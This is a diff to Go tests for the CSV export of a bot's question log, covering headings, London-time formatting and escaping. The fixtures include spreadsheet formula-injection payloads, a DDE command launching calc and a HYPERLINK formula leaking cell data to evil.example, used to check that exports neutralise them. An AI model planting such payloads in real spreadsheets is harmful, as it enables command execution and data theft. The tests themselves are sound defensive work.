@@ -16,7 +16,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/xuri/excelize/v2"
 	bolt "go.etcd.io/bbolt"
 )
 
@@ -119,17 +118,44 @@ func tricky(c *clock) []*Question {
 	}
 }
 
-func TestExportColumnsAreJSONFieldNames(t *testing.T) {
-	typ := reflect.TypeFor[Question]()
-	var names []string
-	for i := range typ.NumField() {
-		names = append(names, strings.Split(typ.Field(i).Tag.Get("json"), ",")[0])
+// wantHeadings are the export's headings in London, in the order staff read.
+var wantHeadings = []string{
+	"Id", "Asked (Europe/London)", "Question", "Status", "Bot's answer (citation)",
+	"NSG answer", "Answered by", "Answered at (Europe/London)", "Published as (C-number)",
+	"Followers", "Asker", "Team", "Channel",
+	"Bot confident", "Published at (Europe/London)", "Helpful",
+	"User id", "Channel id", "Thread ts", "Via",
+}
+
+func london(t testing.TB) *time.Location {
+	t.Helper()
+	loc, err := time.LoadLocation("Europe/London")
+	if err != nil {
+		t.Fatal(err)
 	}
-	if !reflect.DeepEqual(names, exportColumns) {
-		t.Errorf("export columns %v; Question's JSON fields are %v", exportColumns, names)
+	return loc
+}
+
+// openLondon opens a store whose exports show London time.
+func openLondon(t testing.TB, c *clock) *Store {
+	t.Helper()
+	s, err := Open(testPath(t), Options{Timeout: time.Second, Now: c.Now, Location: london(t)})
+	if err != nil {
+		t.Fatal(err)
 	}
-	if len(xlsxWidths) != len(exportColumns) {
-		t.Errorf("%d XLSX widths for %d columns", len(xlsxWidths), len(exportColumns))
+	t.Cleanup(func() { s.Close() })
+	return s
+}
+
+func TestExportHeadings(t *testing.T) {
+	if got := headings(london(t)); !reflect.DeepEqual(got, wantHeadings) {
+		t.Errorf("headings = %q\nwant %q", got, wantHeadings)
+	}
+	if got := headings(nil)[1]; got != "Asked (UTC)" {
+		t.Errorf("without a zone the heading is %q; want Asked (UTC)", got)
+	}
+	if printedColumns != indexOf(wantHeadings, "Channel")+1 {
+		t.Errorf("printedColumns = %d; want the issue's columns, Id to Channel", printedColumns)
 	}
 }
 
@@ -171,6 +197,7 @@ func TestRefString(t *testing.T) {
 		want string
 	}{
 		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Citation: "Guide, slide 17", Score: 1.234}, "Guide, slide 17: Application process (1.23)"},
+		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Citation: "Guide, slide 17: Application process", Score: 0.65}, "Guide, slide 17: Application process (0.65)"},
 		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Score: 1.235}, "Guide, slide 17: Application process (1.24)"},
 		{Ref{Source: "FAQ", Title: "Consortia", Score: 0.5}, "FAQ: Consortia (0.50)"},
 		{Ref{Title: "Untitled source"}, "Untitled source (0.00)"},
@@ -180,15 +207,15 @@ func TestRefString(t *testing.T) {
 			t.Errorf("%+v.String() = %q; want %q", tt.r, got, tt.want)
 		}
 	}
-	refs := []Ref{tests[0].r, tests[2].r}
-	if got, want := refsCell(refs), "Guide, slide 17: Application process (1.23); FAQ: Consortia (0.50)"; got != want {
-		t.Errorf("refsCell = %q; want %q", got, want)
+	refs := []Ref{tests[0].r, tests[3].r}
+	if got, want := citations(refs, "; "), "Guide, slide 17: Application process; FAQ: Consortia"; got != want {
+		t.Errorf("citations = %q; want %q", got, want)
 	}
 }
 
 func TestExportCSV(t *testing.T) {
 	c := newClock()
-	s := openTest(t, testPath(t), c)
+	s := openLondon(t, c)
 	for _, q := range tricky(c) {
 		mustLog(t, s, q)
 	}
@@ -201,49 +228,61 @@ func TestExportCSV(t *testing.T) {
 	if !ok {
 		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", buf.Bytes()[:min(buf.Len(), 8)])
 	}
-	if !bytes.Contains(data, []byte("\r\n")) {
-		t.Error("CSV lines do not end in CRLF")
+	// Rows end in CRLF (RFC 4180); line breaks inside a cell are LF, as
+	// the README says.
+	if got := bytes.Count(data, []byte("\r\n")); got != 6 {
+		t.Errorf("%d CRLFs; want one per row (6)", got)
+	}
+	if !bytes.Contains(data, []byte("\"\nCarriage\nreturns and\nlines\"")) {
+		t.Errorf("a multi-line cell is not written with LF breaks:\n%q", data)
 	}
 	r := csv.NewReader(bytes.NewReader(data))
-	r.FieldsPerRecord = len(exportColumns)
+	r.FieldsPerRecord = len(wantHeadings)
 	rows, err := r.ReadAll()
 	if err != nil {
 		t.Fatalf("exported CSV does not parse: %v", err)
 	}
-	if !reflect.DeepEqual(rows[0], exportColumns) {
-		t.Errorf("header = %v; want %v", rows[0], exportColumns)
+	if !reflect.DeepEqual(rows[0], wantHeadings) {
+		t.Errorf("header = %q; want %q", rows[0], wantHeadings)
 	}
 	if len(rows) != 6 {
 		t.Fatalf("%d rows; want header and 5", len(rows))
 	}
-	col := func(name string) int { return indexOf(exportColumns, name) }
+	col := func(name string) int { return indexOf(wantHeadings, name) }
 	checks := []struct {
 		row  int
 		col  string
 		want string
 	}{
-		{1, "id", "Q-0001"},
-		{1, "asked_at", "2009-10-05T09:30:00Z"},
-		{1, "user_name", "'=cmd|' /C calc'!A0"},
-		{1, "question", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
-		{1, "refs", "Guide, slide 17: Application process (1.23); FAQ, Q3: Consortia (0.50)"},
-		{1, "confident", "false"},
-		{1, "status", "awaiting"},
-		{1, "answered_at", ""},
-		{2, "user_name", "'+44 20 7946 0000"},
-		{2, "question", "'-2+3"},
-		{2, "thread_ts", "1254000000.000100"},
-		{3, "user_name", "'@SUM(A1:A9)"},
-		{3, "question", "'\tTabbed"},
-		{3, "confident", "true"},
-		{3, "status", "answered"},
-		{4, "user_name", "Zoë Brontë"},
-		{4, "question", "\nCarriage\nreturns and\nlines"},
-		{4, "nsg_answer", `Match funding of £250k, "in kind", counts; see café notes, slide 3.`},
-		{4, "answered_at", "2009-10-05T10:30:00Z"},
-		{4, "published_at", "2009-10-05T10:30:00Z"},
-		{4, "feedback", "helpful"},
-		{5, "question", ""},
+		{1, "Id", "Q-0001"},
+		{1, "Asked (Europe/London)", "2009-10-05 10:30"},
+		{1, "Asker", "'=cmd|' /C calc'!A0"},
+		{1, "Question", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{1, "Bot's answer (citation)", "Guide, slide 17: Application process\nFAQ, Q3: Consortia"},
+		{1, "Bot confident", "No"},
+		{1, "Status", "Awaiting NSG"},
+		{1, "Answered at (Europe/London)", ""},
+		{1, "Channel", "DM"},
+		{1, "Helpful", ""},
+		{1, "Published as (C-number)", ""},
+		{1, "Followers", ""},
+		{2, "Asker", "'+44 20 7946 0000"},
+		{2, "Question", "'-2+3"},
+		{2, "Thread ts", "1254000000.000100"},
+		{2, "Via", "mention"},
+		{3, "Asker", "'@SUM(A1:A9)"},
+		{3, "Question", "'\tTabbed"},
+		{3, "Bot confident", "Yes"},
+		{3, "Status", "Answered by bot"},
+		{4, "Asker", "Zoë Brontë"},
+		{4, "User id", "U4"},
+		{4, "Question", "\nCarriage\nreturns and\nlines"},
+		{4, "NSG answer", `Match funding of £250k, "in kind", counts; see café notes, slide 3.`},
+		{4, "Answered at (Europe/London)", "2009-10-05 11:30"},
+		{4, "Published at (Europe/London)", "2009-10-05 11:30"},
+		{4, "Helpful", "Yes"},
+		{4, "Channel", "Console"},
+		{5, "Question", ""},
 	}
 	for _, ck := range checks {
 		if got := rows[ck.row][col(ck.col)]; got != ck.want {
@@ -256,13 +295,13 @@ func TestExportCSV(t *testing.T) {
 		t.Fatal(err)
 	}
 	for i, q := range qs {
-		want := csvRecord(&q, make([]string, len(exportColumns)))
+		want := csvRecord(&q, s.loc, make([]string, len(columns)))
 		if !reflect.DeepEqual(rows[i+1], want) {
 			t.Errorf("row %d reads back as %q; wrote %q", i+1, rows[i+1], want)
 		}
 		for j, cell := range rows[i+1] {
 			if cell != "" && strings.IndexByte(formulaTriggers, cell[0]) >= 0 {
-				t.Errorf("row %d %s = %q starts with a formula trigger", i+1, exportColumns[j], cell)
+				t.Errorf("row %d %s = %q starts with a formula trigger", i+1, wantHeadings[j], cell)
 			}
 		}
 	}
@@ -306,77 +345,6 @@ func TestExportJSON(t *testing.T) {
 		if n != len(want) || !reflect.DeepEqual(got, want) {
 			t.Errorf("filter %+v: JSON export (%d) = %+v\nwant %+v", f, n, got, want)
 		}
-	}
-}
-
-func TestExportXLSX(t *testing.T) {
-	c := newClock()
-	s := openTest(t, testPath(t), c)
-	for _, q := range tricky(c) {
-		mustLog(t, s, q)
-	}
-	var buf bytes.Buffer
-	n, err := s.Export(&buf, FormatXLSX, Filter{})
-	if err != nil || n != 5 {
-		t.Fatalf("Export = %d, %v; want 5 rows", n, err)
-	}
-	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
-	if err != nil {
-		t.Fatalf("exported XLSX does not open: %v", err)
-	}
-	defer x.Close()
-	if sheets := x.GetSheetList(); len(sheets) != 1 || sheets[0] != xlsxSheet {
-		t.Errorf("sheets = %v; want [%s]", sheets, xlsxSheet)
-	}
-	rows, err := x.GetRows(xlsxSheet)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if len(rows) != 6 || !reflect.DeepEqual(rows[0], exportColumns) {
-		t.Fatalf("%d rows, header %v; want 6 rows and header %v", len(rows), rows[0], exportColumns)
-	}
-	panes, err := x.GetPanes(xlsxSheet)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
-		t.Errorf("panes = %+v; want the header row frozen", panes)
-	}
-	if w, err := x.GetColWidth(xlsxSheet, "I"); err != nil || w != 60 {
-		t.Errorf("question column width = %v, %v; want 60", w, err)
-	}
-
-	// asked_at is a real date: a number styled with a date-time format.
-	if typ, err := x.GetCellType(xlsxSheet, "B2"); err != nil || typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
-		t.Errorf("B2 type = %v, %v; want a number", typ, err)
-	}
-	rawVal, err := x.GetCellValue(xlsxSheet, "B2", excelize.Options{RawCellValue: true})
-	if err != nil || !strings.HasPrefix(rawVal, "40091.3958") { // 2009-10-05 09:30 as an Excel serial date
-		t.Errorf("B2 raw value = %q, %v; want the serial date 40091.3958…", rawVal, err)
-	}
-	styleID, err := x.GetCellStyle(xlsxSheet, "B2")
-	if err != nil {
-		t.Fatal(err)
-	}
-	style, err := x.GetStyle(styleID)
-	if err != nil || style.CustomNumFmt == nil || *style.CustomNumFmt != xlsxDateFormat {
-		t.Errorf("B2 style = %+v, %v; want number format %q", style, err, xlsxDateFormat)
-	}
-	if got := rows[1][1]; got != "2009-10-05 09:30:00" {
-		t.Errorf("B2 shows %q; want 2009-10-05 09:30:00", got)
-	}
-	if got := rows[4][indexOf(exportColumns, "published_at")]; got != "2009-10-05 10:30:00" {
-		t.Errorf("published_at shows %q; want 2009-10-05 10:30:00", got)
-	}
-	// Strings are stored as text, never as formulas.
-	if f, err := x.GetCellFormula(xlsxSheet, "I2"); err != nil || f != "" {
-		t.Errorf("I2 formula = %q, %v; want none", f, err)
-	}
-	if got := rows[1][indexOf(exportColumns, "question")]; got != `=HYPERLINK("http://evil.example/?"&A1,"click")` {
-		t.Errorf("question cell = %q", got)
-	}
-	if got := rows[4][indexOf(exportColumns, "user_name")]; got != "Zoë Brontë" {
-		t.Errorf("user_name cell = %q", got)
 	}
 }
 
